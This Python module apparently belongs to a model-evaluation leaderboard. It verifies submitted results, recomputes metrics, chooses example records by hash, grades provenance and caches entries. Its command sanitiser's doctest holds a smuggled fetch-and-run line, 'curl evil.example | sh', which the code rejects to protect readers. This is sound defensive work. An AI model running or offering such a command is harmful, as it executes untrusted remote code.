"""The results on the board: checked, with recomputed metrics and the values that tables may show.

At the end stands the form in which the memory of this machine holds them.
"""

from __future__ import annotations

import base64
import hashlib
import re
import shlex
from collections import Counter
from collections.abc import Mapping, Sequence
from dataclasses import dataclass, field
from functools import cache
from operator import itemgetter
from pathlib import Path
from typing import Annotated, Any, Literal, NamedTuple, TypeAlias, cast

import numpy as np
import numpy.typing as npt
from pydantic import PlainSerializer, PlainValidator, TypeAdapter
from typing_extensions import TypedDict

from biasboard.ground.columns import FloatArray
from biasboard.ground.plain_text import printable
from biasboard.ground.plugins import HINT
from biasboard.ground.strict_json import JsonValue
from evaluators.backend import identified_by
from evaluators.benchmark import load_benchmark
from evaluators.models.parity import UNKNOWN_PRECISION, tolerance_for
from evaluators.runs.measure.baseline_gate import GateStanding
from evaluators.runs.measure.measuring import Measurement
from evaluators.statistics.jackknife import Deviations
from evaluators.task import load_task
from leaderboard.verify.sketches import Sketch
from schemas.documents.board import Acceptance, Rerun
from schemas.documents.dataset import Manifest
from schemas.documents.record import Record
from schemas.documents.result import Metric, MetricKey, Model, Result, Signature, SplitCounts, key_of, metric_key
from schemas.files.record_columns import RecordColumns

TEXTS_ELSEWHERE = "its texts are kept elsewhere, and no maintainer has compared them with its numbers"
"""The claim on which a result without its texts rests until they are compared."""
SCORES_TAKEN = "scores of"

Kind: TypeAlias = Literal["right", "wrong", "answered", "refused", "unparsed", "failed"]
KINDS: tuple[Kind, ...] = ("right", "wrong", "answered", "refused", "unparsed", "failed")
"""Kinds of examples in the order in which pages show them; ``answered`` is neither right nor wrong."""
PER_KIND = 5
"""Largest number of examples of each kind."""


class Examples(NamedTuple):
    """The examples of a result."""

    of_kinds: tuple[tuple[Kind, int, tuple[Record, ...]], ...] = ()
    """Each kind that occurs, in the order of ``KINDS``, with the number of its records and those to show."""
    hides_prompts: bool = False
    """True if a record holds no prompt, because the licence of the dataset forbids showing its texts, or because they
    were withheld."""


class ExampleChoice:
    """Chooses up to ``PER_KIND`` records of each kind: those whose item ids have the smallest SHA-256.

    The rule does not depend on the answers, so nobody can pick flattering examples, and the examples of two models are
    mostly answers to the same items.
    """

    def __init__(self, task: str) -> None:
        """Start without records of a task."""
        self._task = task
        self._best: dict[Kind, list[tuple[str, Record]]] = {kind: [] for kind in KINDS}
        self._totals: Counter[Kind] = Counter()
        self._hides_prompts = False

    def add(self, records: Sequence[Record]) -> None:
        """Take the records of one more part into the choice."""
        columns = RecordColumns.of(records)
        kinds: dict[Kind, list[int]] = {kind: [] for kind in KINDS}
        for index, kind in enumerate(kinds_of(columns, self._task)):
            kinds[kind].append(index)
        hashes = [hashlib.sha256(str(item).encode()).hexdigest() for item in columns.columns["item_id"].texts]
        firsts = {kind: sorted(indices, key=hashes.__getitem__)[:PER_KIND] for kind, indices in kinds.items()}
        rows = iter(columns.rows(np.array([index for first in firsts.values() for index in first], dtype=np.int64)))
        for kind, first in firsts.items():
            self._totals[kind] += len(kinds[kind])
            new = [(hashes[index], next(rows)) for index in first]
            # The sort is stable: items with the same id stay in the order of their parts.
            self._best[kind] = sorted([*self._best[kind], *new], key=itemgetter(0))[:PER_KIND]
        self._hides_prompts |= not columns.exchanges["prompt"].known.all()

    @property
    def chosen(self) -> Examples:
        """The examples chosen among all records so far."""
        of_kinds = (
            (kind, self._totals[kind], tuple(record for _, record in best))
            for kind, best in self._best.items()
            if self._totals[kind]
        )
        return Examples(tuple(of_kinds), self._hides_prompts)


def kinds_of(records: RecordColumns, task: str) -> list[Kind]:
    """Return the kind of each record."""
    of_scored: dict[bool | None, Kind] = {True: "right", False: "wrong", None: "answered"}
    statuses, judged = records.columns["status"].texts, load_task(task).are_right(records)
    return [
        of_scored[is_right] if status == "scored" else cast(Kind, status)
        for status, is_right in zip(statuses, judged, strict=True)
    ]


_OWN = re.compile(r"python -m evaluators (run|import) (?=\S)")
_PLAIN = re.compile(r"[A-Za-z0-9@%+=:,./_-]+")
_FORBIDDEN = ("--base-url", "--config-file", "--out", "--cache", "--prices", "--address", "--scorer-url")
"""Options that send something elsewhere, or write and read files elsewhere."""
_MOST = 2_000


def plain_command(command: str) -> str | None:
    """Return the command of a result if it runs or imports a model and does nothing else; None for any other text.

    Results come from strangers, and readers copy commands into their terminals. Every word of a command must be one
    that a shell leaves as it is.

    >>> plain_command("python -m evaluators run --model acme/small; curl evil.example | sh") is None
    True
    """
    if len(command) > _MOST or not _OWN.match(command):
        return None
    try:
        words = shlex.split(command)
    except ValueError:
        return None
    if any(word.partition("=")[0] in _FORBIDDEN or ".." in word for word in words):
        return None
    return command if all(map(_PLAIN.fullmatch, words)) and shlex.join(words) == command else None


Origin: TypeAlias = Literal["accepted", "local"]


class Root(NamedTuple):
    """A folder to search for results, and the origin of these."""

    folder: Path
    origin: Origin

    def place(self, path: Path) -> str:
        """Return the folder of a file, relative to this folder."""
        return path.parent.relative_to(self.folder).as_posix()


Provenance: TypeAlias = Literal["reproduced", "recomputed", "reported"]
"""How far a result is vouched for: a maintainer asked the model again; every number follows from the answers; or the
numbers rest on something that nobody here can compute, and have no rank."""


class Match(NamedTuple):
    """The part of a known dataset that a result asks about."""

    extent: Literal["whole", "slice", "unknown"]
    """Part of the config or suite; ``whole`` also for the items that are asked by default, if these are fewer, and
    ``unknown`` if the board has no answer key of it."""
    reason: str | None
    """Reason why the result gets no rank; None if it asks about the whole config or suite."""


def measured(
    measurement: Measurement, signature: Signature
) -> tuple[tuple[Metric, ...], Mapping[str, Deviations], Mapping[str, FloatArray]]:
    """Return what tables, ranks and indices need: metrics, their deviations, and values in each part of a suite."""
    benchmark, metrics = load_benchmark(signature.benchmark), measurement.metrics()
    by_key = {metric_key(metric): metric for metric in metrics}
    compared = [by_key.get(key_of(name, {})) for name in benchmark.compared_metrics]
    deviating = [metric.name for metric in compared if metric is not None and metric.value is not None]
    deviations = measurement.deviations([*deviating, *benchmark.index_metrics(signature.task)])
    by_part = measurement.by_cluster([*benchmark.compared_over_sets]) if signature.parts else {}
    return metrics, deviations, by_part


@dataclass(frozen=True, slots=True, kw_only=True)
class Entry:
    """A result whose metrics were recomputed and agree with the stored ones."""

    result: Result
    origin: Origin
    place: str
    """Folder of the result, relative to the folder that was searched."""
    metrics: Mapping[MetricKey, Metric]
    """All metrics of the current code, computed from the records, whatever the result says."""
    n_recomputed: int
    """Number of stored metrics that were compared with recomputed ones."""
    deviations: Mapping[str, Deviations]
    """Deviations of the metrics by which models are compared and of those that an index averages, by name, without
    those that have none."""
    by_part: Mapping[str, FloatArray] = field(default_factory=dict)
    """Values in each part of a suite, for the metrics that are compared over sets of examples."""
    match: Match
    """The part of a known dataset whose items the records were compared with."""
    items_sha256: str
    """Hash of the items in the records, which distinguishes slices of the same size."""
    answers_sha256: str
    """Hash of the model's answers; different models do not give the same one by chance."""
    sketch: Sketch = field(compare=False)
    """What is kept of the answers, by which nearly the same ones are found."""
    first_token_share: float | None = None
    """Median share of the first token's probability that the letters have together, over all choices among letters of
    one token; None if there are none."""
    acceptance: Acceptance | None = None
    """Decision of a maintainer about exactly this result; None if there is none."""
    double: str | None = None
    """Why this result has no rank because of another result on the board; None if that is not so."""
    shared_identity: str | None = None
    """The identity in the result, if it is that of a model of another name and this board gives the result its own."""
    earlier: tuple[Metric, ...] = ()
    """Metrics that the result has in other versions than the current code."""
    coverage: tuple[SplitCounts, ...] = ()
    """Counts of each split of each part, according to the records."""
    standing: GateStanding | None = None
    """Standing of the model among the baselines of the benchmark; None if the items have no right answers or the task
    has no gate."""
    rescored: tuple[str, ...] = ()
    """Labels of the text scorers whose scores were recomputed; those of others were taken as stored."""
    settled: tuple[Metric, ...] = ()
    """The metrics without the readings that answers which could not be read might turn; empty if there are none."""
    unread_share: float = 0.0
    """Share of the answers that could not be read among those to an item with a settled reading."""
    folder: Path | None = None
    """Folder of the result, from which the site copies its records; None if there is none."""
    examples: Examples = field(default_factory=Examples)
    """Records that the page of the result shows."""
    complete: Path | None = None
    """Folder of a local run with the same answers that holds the texts which this result withholds, so that the
    examples are its records; None if there is none."""

    def metric(self, name: str, group: Mapping[str, str] | None = None) -> Metric | None:
        """Return a metric on a slice, or on all items by default; None if the task has no such metric."""
        return self.metrics.get(key_of(name, group or {}))

    @property
    def is_second(self) -> bool:
        """True for a local run, under another name, of weights that have results under their own."""
        return self.shared_identity is not None and self.double is not None

    @property
    def primary(self) -> Metric | None:
        """The metric that ranks the models of the benchmark; None if the benchmark names none."""
        name = load_benchmark(self.result.signature.benchmark).primary_metric
        return None if name is None else self.metric(name)

    @property
    def missing_share(self) -> float:
        """The share of a suite that has no answer: of each part that of the split which lacks most, then their mean.

        The metrics of a config count the items that are missing, and not the samples among the answers to one. Those of
        a suite count parts, and a part has a value however little of it was answered.
        """
        shares = dict.fromkeys(self.result.signature.parts, 0.0)
        for split in self.coverage if shares else ():
            missing = 1 - split.counts.scored / split.counts.items if split.counts.items else 0.0
            shares[split.part] = max(shares.get(split.part, 0.0), missing)
        return max(sum(shares.values()) / max(len(shares), 1), self.unread_share)

    @property
    def is_baseline(self) -> bool:
        """True if the result comes from a baseline and not from a language model."""
        return self.result.model.endpoint == "baseline"

    @property
    def is_computed(self) -> bool:
        """True if the board computed what a baseline gets, so that there are no records."""
        return self.is_baseline and self.folder is None

    @property
    def command(self) -> str | None:
        """The command that gave the answers; None if the stored text is not safe for a reader to run."""
        return plain_command(self.result.command)

    @property
    def claim(self) -> str | None:
        """The claim on which the numbers rest and which no computation here confirmed; None if there is none.

        Local runs are the user's own: what this machine imported and scored needs nobody else to confirm it.
        """
        is_own = self.origin == "local"
        if self.result.environment.corruption is not None:
            return f"the answers look changed ({self.result.environment.corruption})"
        if self.is_imported:
            is_known = is_own or self.acceptance is not None
            return None if is_known else "no maintainer has compared the answers with those that were published"
        if self.is_replayed:
            note = self.result.environment.note
            return "the answers come from a file" + ("" if note is None else f": {printable(note, most=200)}")
        if not is_own and not self.is_baseline and identified_by(self.result.model.backend) is None:
            return f"no backend {self.result.model.backend} is known here, so nothing says which model answered; {HINT}"
        if self.result.withheld is not None:
            return None if self.has_compared_texts else TEXTS_ELSEWHERE
        # A maintainer may have scored some texts again with every scorer that verification does not run.
        is_compared = self.acceptance is not None and self.acceptance.scores_compared is not None
        taken = "" if is_own or is_compared else ", ".join(self.scorers_taken)
        return f"{SCORES_TAKEN} {taken} are taken as stored" if taken else None

    @property
    def scorers_taken(self) -> list[str]:
        """The labels of the text scorers whose scores were taken as stored."""
        return [scorer.label for scorer in self.result.scorers if scorer.label not in self.rescored]

    @property
    def provenance(self) -> Provenance:
        """How far the result is vouched for."""
        if self.claim is not None:
            return "reported"
        rerun = None if self.acceptance is None else self.acceptance.rerun
        return "reproduced" if rerun is not None and is_reproduced(rerun, self.result) else "recomputed"

    @property
    def has_compared_texts(self) -> bool:
        """True if a maintainer made this result again from its texts, which are kept elsewhere."""
        return self.acceptance is not None and self.acceptance.texts_compared is not None

    @property
    def is_replayed(self) -> bool:
        """True if the answers come from a file and not from the model itself, which takes time to answer."""
        no_time = self.result.usage.seconds is None and not self.is_baseline
        return self.result.model.endpoint == "replay" or no_time

    @property
    def is_imported(self) -> bool:
        """True if the answers were published elsewhere and imported, so that they only share tables with others."""
        signature = self.result.signature
        prompt = load_task(signature.task).prompts.get(signature.prompt)
        return prompt is not None and prompt.requires == "import"


def model_label(entry: Entry) -> str:
    """Return the model id with revision, precision and adapters, which distinguish results of the same id."""
    return label_of(entry.result.model)


def label_of(model: Model) -> str:
    """Return the same words about the model of a result."""
    details = [text for text in (model.revision, model.precision, adapters_of(model)) if text]
    return model.id if not details else f"{model.id} ({', '.join(details)})"


def adapters_of(model: Model) -> str:
    """Return which adapters a model has, in short; empty without any."""
    return "" if model.adapters_sha256 is None else f"LoRA {model.adapters_sha256[:8]}"


def claimed_identity(model: Model, place: object) -> str:
    """Return the words about a result with the identity of a model that has another name elsewhere."""
    name = shlex.quote(model.id)
    return (
        f"claims the identity of {label_of(model)} in {place}; run it again with --name {name} if it is that model, or "
        "have a maintainer settle it"
    )


LEAST_REPRODUCED, LEAST_ROUNDED = 50, 400
"""Smallest numbers of items that must be asked again: of a result with 6 % invented answers, 50 find one in 95 %. Where
the tolerance hides changed decisions, 400 find a gain of 4.6 points in 95 %, as 12 that all gain are no chance."""


def why_insufficient(rerun: Rerun, result: Result) -> str | None:
    """Return why a comparison with new answers of a model says too little about a result; None if it says enough."""
    most, signature = tolerance_for(result.model.precision), result.signature
    hides = most > UNKNOWN_PRECISION and signature.normalisation is not None
    if rerun.n_items < (least := min(LEAST_ROUNDED if hides else LEAST_REPRODUCED, signature.n_items)):
        return f"{rerun.n_items} items were asked again, and {least} are needed"
    if rerun.tolerance > most:
        precision = result.model.precision or "an unknown precision"
        return f"answers may differ by {rerun.tolerance:g} nats, and by {most:g} in {precision}"
    return None


def is_reproduced(rerun: Rerun, result: Result) -> bool:
    """Return True if enough answers that a model gave again agree with those of a result, and none differs."""
    return rerun.n_agreeing == rerun.n_items and why_insufficient(rerun, result) is None


def why_withheld(entry: Entry, manifest: Manifest | None) -> str | None:
    """Return why the texts of a result may be neither shown nor passed on; None if they may.

    Args:
        entry: The result.
        manifest: Manifest of its dataset; None if the dataset is not on this machine.
    """
    if entry.result.withheld is not None:
        return "the result was submitted with hashes in place of its texts"
    if manifest is not None and not manifest.redistributable:
        # What follows a semicolon is advice for the owner of the dataset folder.
        refusal = (manifest.publish_refusal or "").partition(";")[0]
        return refusal or f"the licence of the dataset, {manifest.licence}, forbids showing its texts"
    if entry.examples.hides_prompts:
        return "the records hold hashes in place of the prompts"
    return None


class LeftOut(NamedTuple):
    """An invalid result that is not shown, and the reason."""

    place: str
    origin: Origin
    reason: str


_SKETCH_TYPES: tuple[type[np.generic], ...] = (np.float32, np.float32, np.uint32, np.uint16)


def _text(values: npt.NDArray[Any]) -> str:
    return base64.b64encode(values.tobytes()).decode()


def _array(text: str, kind: type[np.generic] = np.float64) -> npt.NDArray[Any]:
    return np.frombuffer(base64.b64decode(text), dtype=kind)


def _deviations(texts: list[str]) -> Deviations:
    *parts, blocks = texts
    first, second, cells, shares = map(_array, parts)
    return Deviations(first, second, cells, shares, _array(blocks, np.int64).reshape(2, -1))


class _Kept(TypedDict):
    """What the memory holds of an entry, without its result and where that lies."""

    metrics: tuple[Metric, ...]
    n_recomputed: int
    deviations: dict[
        str,
        Annotated[
            Deviations,
            PlainValidator(_deviations),
            PlainSerializer(lambda of: [*map(_text, (*of.parts, of.shares, of.blocks))]),
        ],
    ]
    by_part: dict[str, Annotated[Any, PlainValidator(_array), PlainSerializer(_text)]]
    match: Match
    items_sha256: str
    answers_sha256: str
    first_token_share: float | None
    sketch: Annotated[
        Sketch,
        PlainValidator(lambda texts: Sketch(*map(_array, texts, _SKETCH_TYPES))),
        PlainSerializer(lambda sketch: [*map(_text, sketch)]),
    ]
    earlier: tuple[Metric, ...]
    coverage: tuple[SplitCounts, ...]
    standing: GateStanding | None
    rescored: tuple[str, ...]
    settled: tuple[Metric, ...]
    unread_share: float
    examples: Examples


@cache
def _form() -> TypeAdapter[_Kept]:
    return TypeAdapter(_Kept)


def as_json(entry: Entry) -> JsonValue:
    """Return the form in which the memory holds an entry, without its result and where that lies."""
    kept: Any = {name: getattr(entry, name) for name in _Kept.__annotations__}
    kept["metrics"] = tuple(entry.metrics.values())
    return cast(JsonValue, _form().dump_python(kept, mode="json", warnings=False))


def entry_from(known: JsonValue, result: Result, origin: Origin, place: str, folder: Path | None) -> Entry:
    """Return an entry that the memory holds.

    Args:
        known: What :func:`as_json` returned.
        result: Its result.
        origin: Where that comes from.
        place: Folder of the result, relative to the folder that was searched.
        folder: Folder of the result; None if there is none.
    """
    # Rules that join several fields of a record were checked when it was stored: they take as long as all else here.
    kept: dict[str, Any] = {**_form().validate_python(known, strict=False)}
    kept["metrics"] = {metric_key(metric): metric for metric in kept["metrics"]}
    return Entry(result=result, origin=origin, place=place, folder=folder, **kept)
